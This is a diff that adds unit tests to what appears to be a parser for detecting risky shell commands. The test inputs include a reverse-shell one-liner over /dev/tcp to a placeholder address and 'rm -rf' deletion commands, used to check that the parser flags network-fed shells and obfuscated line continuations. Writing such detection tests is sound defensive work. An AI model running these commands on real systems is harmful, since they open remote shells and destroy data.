@@ -682,6 +682,18 @@ def test_parse_nul_inside_name_is_removed() -> None:
     assert "binary" in result.flags
 
 
+def test_parse_line_continuation_inside_a_word() -> None:
+    assert _find(parse("r\\\nm -rf /x"), "rm").args == ["-rf", "/x"]
+    assert _find(parse("echo 'a\\\nb'"), "echo").args == ["a\\\nb"]
+
+
+def test_parse_shell_reading_a_network_descriptor() -> None:
+    result = parse("exec 3<>/dev/tcp/192.0.2.1/80; sh <&3 >&3 2>&3")
+    assert _find(result, "sh").stdin_is_network
+    assert any(r.target == "/dev/tcp/192.0.2.1/80" for r in _find(result, "exec").redirects)
+    assert "dynamic_code" in result.flags
+
+
 def test_parse_crlf_line_endings() -> None:
     result = parse("cd /tmp\r\nrm -rf /\r\n")
     assert _find(result, "rm").args == ["-rf", "/"]
